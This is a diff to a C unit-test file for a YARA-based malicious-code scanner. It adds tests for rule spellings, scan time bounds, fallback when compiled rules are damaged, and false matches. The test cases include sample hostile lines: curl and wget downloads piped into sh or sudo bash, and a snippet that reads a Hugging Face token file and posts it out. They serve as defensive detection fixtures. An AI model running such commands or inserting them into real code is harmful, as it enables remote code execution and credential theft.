@@ -8,12 +8,13 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 
 #include <cmocka.h>
 
 #include "scanner/rules_blob.h"
-#include "scanner/yara_pack.h"
+#include "scanner/yara_internal.h"
 
 static int setup(void **state)
 {
@@ -120,21 +121,146 @@ static void empty_and_benign_give_nothing(void **state)
     assert_int_equal(out.count, 0);
 }
 
-/* A million halves of a match end in bounded time, with a finding when the scan gave up. */
+/* Spellings that the one example of a rule does not show. */
+static void other_spellings_match(void **state)
+{
+    static const struct {
+        const char *text, *rule;
+    } cases[] = {
+        {"os.system('curl -s http://a.invalid/x | a1 | b1 | c1 | d1 | sh')\n", "HG-YARA-005"},
+        {"os.system('curl -s http://a.invalid/x | a1 | b1 | c1 | d1 | sh')\n", "HG-YARA-006"},
+        {"os.system('wget -qO- a.invalid/x || true | sudo bash')\n", "HG-YARA-005"},
+        {"t=open(os.path.join(h,'huggingface', \"token\")).read()\nrequests.post(u,data=t)\n", "HG-YARA-025"},
+        {"t=open(os.path.join(h,\"huggingface\",'token')).read()\nrequests.post(u,data=t)\n", "HG-YARA-025"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+        struct hg_findings out = {0};
+        if (scan_for(*state, cases[i].text, cases[i].rule, &out) == NULL)
+            fail_msg("case %zu: not %s", i, cases[i].rule);
+        hg_findings_clear(&out);
+    }
+}
+
+/* Of a megabyte of almost-matches none may cost what would let a repository stall the gate: these are looked
+ * at to their end, in a fraction of the scan's own limit. */
 static void hostile_bytes_end_in_bounded_time(void **state)
 {
-    static const char half[] = "os.system('curl |sh";
-    size_t n = 4u << 20;
+    static const struct {
+        const char *part, *rule; /* NULL: no finding */
+    } cases[] = {
+        {"os.system('curl |sh", NULL},
+        {"os.system('curl -s x|sh ", "HG-YARA-005"},
+    };
+    size_t n = 1u << 20;
     char *text = malloc(n + 1);
     assert_non_null(text);
-    for (size_t i = 0; i < n; i++)
-        text[i] = half[i % (sizeof half - 1)];
-    text[n] = '\0';
-    struct hg_findings out = {0};
-    assert_int_equal(hg_yara_scan(*state, (const uint8_t *)text, n, &out), 0);
-    assert_true(out.count > 0);
-    hg_findings_clear(&out);
+    for (size_t c = 0; c < sizeof cases / sizeof *cases; c++) {
+        for (size_t i = 0, length = strlen(cases[c].part); i < n; i++)
+            text[i] = cases[c].part[i % length];
+        text[n] = '\0';
+        struct hg_findings out = {0};
+        clock_t start = clock();
+        const struct hg_finding *unfinished = scan_for(*state, text, "HG-YARA-000", &out);
+        assert_true(clock() - start < CLOCKS_PER_SEC);
+        assert_null(unfinished);
+        assert_int_equal(out.count, cases[c].rule == NULL ? 0 : 1);
+        if (cases[c].rule != NULL)
+            assert_string_equal(out.items[0].rule, cases[c].rule);
+        hg_findings_clear(&out);
+    }
     free(text);
+}
+
+/* libyara refuses what another version, or a broken build, has compiled. */
+static void refused_bytes_are_replaced_by_the_texts(void **state)
+{
+    size_t size, rules = 0;
+    const void *compiled = hg_rules_compiled(&size);
+    char *damaged = malloc(size);
+    assert_non_null(damaged);
+    memcpy(damaged, compiled, size);
+    damaged[0] ^= 1;
+    while (hg_yara_rule(*state, rules) != NULL)
+        rules++;
+    const size_t sizes[] = {size, 3, 0};
+    for (size_t i = 0; i < sizeof sizes / sizeof *sizes; i++) {
+        struct hg_error err = {""};
+        struct hg_yara *pack = NULL;
+        assert_int_equal(hg_yara_open(damaged, sizes[i], NULL, &pack, &err), 0);
+        for (size_t r = 0; r < rules; r++) {
+            assert_non_null(hg_yara_rule(pack, r));
+            assert_string_equal(hg_yara_rule(pack, r)->id, hg_yara_rule(*state, r)->id);
+        }
+        assert_null(hg_yara_rule(pack, rules));
+        void *other = pack;
+        every_rule_matches_its_example_only(&other);
+        hg_yara_free(pack);
+    }
+    free(damaged);
+}
+
+/* The rule file with $ctx_ strings that match everywhere and the others that match nowhere. */
+static char *only_surroundings(const struct hg_rules_entry *e)
+{
+    char *out = NULL;
+    size_t size = 0;
+    FILE *to = open_memstream(&out, &size);
+    assert_non_null(to);
+    for (const char *at = e->text, *end = e->text + e->size; at < end;) {
+        const char *stop = memchr(at, '\n', (size_t)(end - at));
+        size_t length = stop == NULL ? (size_t)(end - at) : (size_t)(stop - at) + 1;
+        const char *name = at + strspn(at, " "), *equals = memchr(at, '=', length);
+        if (name < at + length && *name == '$' && equals != NULL)
+            (void)fprintf(to, "%.*s= %s\n", (int)(equals - name), name,
+                          strncmp(name, "$ctx_", 5) == 0 ? "\"xxxx\"" : "\"never-there\"");
+        else
+            (void)fwrite(at, 1, length, to);
+        at += length;
+    }
+    assert_int_equal(fclose(to), 0);
+    return out;
+}
+
+static int refuse_match(YR_SCAN_CONTEXT *context, int message, void *data, void *arg)
+{
+    (void)context;
+    if (message != CALLBACK_MSG_RULE_MATCHING)
+        return CALLBACK_CONTINUE;
+    print_error("%s is true without a string that is not named $ctx_\n", ((YR_RULE *)data)->identifier);
+    ++*(int *)arg;
+    return CALLBACK_CONTINUE;
+}
+
+/* What lets the pack pass over bytes in which only surroundings occur. */
+static void no_rule_is_true_of_surroundings_alone(void **state)
+{
+    static const char *const heads[] = {"x",    "\177ELF", "MZ",       "\x89PNG",
+                                        "GIF8", "%PDF",    "\xff\xd8", "PK\3\4"};
+    struct hg_rules_entry e;
+    size_t cursor = 0;
+    int matches = 0;
+    (void)state;
+    while (hg_rules_blob_next(&cursor, &e) == 1) {
+        if (!hg_rules_entry_is(&e, ".yar"))
+            continue;
+        YR_COMPILER *compiler;
+        YR_RULES *rules;
+        char bytes[2000], *text = only_surroundings(&e);
+        assert_int_equal(yr_compiler_create(&compiler), ERROR_SUCCESS);
+        assert_int_equal(yr_compiler_add_string(compiler, text, NULL), 0);
+        assert_int_equal(yr_compiler_get_rules(compiler, &rules), ERROR_SUCCESS);
+        for (size_t i = 0; i < sizeof heads / sizeof *heads; i++) {
+            memset(bytes, 'x', sizeof bytes);
+            memcpy(bytes, heads[i], strlen(heads[i]));
+            assert_int_equal(
+                yr_rules_scan_mem(rules, (const uint8_t *)bytes, sizeof bytes, 0, refuse_match, &matches, 10),
+                ERROR_SUCCESS);
+        }
+        (void)yr_rules_destroy(rules);
+        yr_compiler_destroy(compiler);
+        free(text);
+    }
+    assert_int_equal(matches, 0);
 }
 
 #define META                                                                                                 \
@@ -209,7 +335,10 @@ int main(void)
         cmocka_unit_test(place_is_that_of_the_first_telling_string),
         cmocka_unit_test(evidence_is_escaped_and_short),
         cmocka_unit_test(empty_and_benign_give_nothing),
+        cmocka_unit_test(other_spellings_match),
         cmocka_unit_test(hostile_bytes_end_in_bounded_time),
+        cmocka_unit_test(refused_bytes_are_replaced_by_the_texts),
+        cmocka_unit_test(no_rule_is_true_of_surroundings_alone),
         cmocka_unit_test(bad_extra_rules_are_refused_with_their_place),
         cmocka_unit_test(blob_lists_every_rule_file_once),
     };
